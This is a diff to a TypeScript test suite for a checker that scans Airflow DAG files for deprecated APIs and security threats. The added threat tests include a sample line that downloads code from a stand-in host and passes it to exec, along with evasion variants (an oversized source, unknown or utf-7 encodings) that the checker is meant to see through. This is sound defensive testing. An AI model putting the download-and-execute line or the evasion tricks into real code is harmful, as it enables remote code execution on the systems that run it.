@@ -152,25 +152,73 @@ describe('imports that Airflow 3 does not have', () => {
 });
 
 describe('warnings', () => {
-  const source = 'from airflow.sdk import DAG\nwith DAG("x", schedule_interval=None):\n  eval("1")\n';
+  const source = 'from airflow.sdk import task\n@task\ndef f(**context):\n  eval(context["execution_date"])\n';
 
-  it('come from the rules of Airflow and bandit, with the fix, and do not reject', () => {
+  it('come from the rules of Airflow and bandit, with what is known of each, and do not reject', () => {
     const { verdict, findings } = check(source);
     expect(verdict).toBe('accepted');
     expect(findings).toContainEqual({
       rule: 'AIR301',
       severity: 'warning',
-      line: 2,
-      message: '`schedule_interval` is removed in Airflow 3.0',
-      fix: 'Use `schedule` instead',
+      line: 4,
+      column: 16,
+      message: '`execution_date` is removed in Airflow 3.0',
+      why: 'Airflow 3 has moved or removed it: it fails when it is used, if not at import.',
+      docs: 'https://docs.astral.sh/ruff/rules/AIR301/',
     });
-    expect(findings).toContainEqual(expect.objectContaining({ rule: 'S307', severity: 'warning', line: 3 }));
+    expect(findings).toContainEqual(expect.objectContaining({ rule: 'S307', severity: 'warning', line: 4 }));
+  });
+
+  it('do not repeat what keeps the file back', () => {
+    const { verdict, findings } = check('from airflow.sdk import DAG\nDAG("x", schedule_interval=None)\n');
+    expect(verdict).toBe('rejected');
+    expect(findings.map(({ rule }) => rule)).not.toContain('AIR301');
   });
 
   it('are silenced by noqa', () => {
-    const rules = check(source.replace('"1")', '"1")  # noqa: S307')).findings.map(({ rule }) => rule);
+    const rules = check(source.replace('"])', '"])  # noqa: S307')).findings.map(({ rule }) => rule);
     expect(rules).toContain('AIR301');
     expect(rules).not.toContain('S307');
+  });
+});
+
+describe('threats', () => {
+  const threat = 'import requests\ndef f():\n  exec(requests.get("https://x.example").text)\n';
+
+  it('reject a file, and say where, why and what to do', () => {
+    expect(check(threat)).toMatchObject({
+      verdict: 'rejected',
+      findings: [
+        {
+          rule: 'downloaded-code',
+          severity: 'critical',
+          line: 3,
+          column: 3,
+          why: expect.stringContaining('runs what they like'),
+          fix: expect.any(String),
+          docs: 'docs/reference/rules/downloaded-code.md',
+        },
+        { rule: 'S113' },
+        { rule: 'S102' },
+      ],
+    });
+  });
+
+  it.each([
+    ['a source too dense for the analyser', `x = [${'"aaaaaaa",'.repeat(90_000)}]\n${threat}`],
+    ['an encoding we do not know', `# coding: koi8-r\n${threat}`],
+    ['an encoding in which letters are others', '# coding: utf-7\nx = 1\n'],
+  ])('are not hidden by %s', (_name, source) => {
+    expect(check(source)).toMatchObject({
+      verdict: 'rejected',
+      findings: expect.arrayContaining([expect.objectContaining({ severity: 'critical' })]),
+    });
+  });
+
+  it('do not take a shim for a removed module for tampering', () => {
+    const shim = (name: string) => `import sys\nsys.modules["${name}"] = sys\n`;
+    expect(check(shim('airflow.operators.dummy')).verdict).toBe('accepted');
+    expect(check(shim('airflow.models.dag')).verdict).toBe('rejected');
   });
 });
 
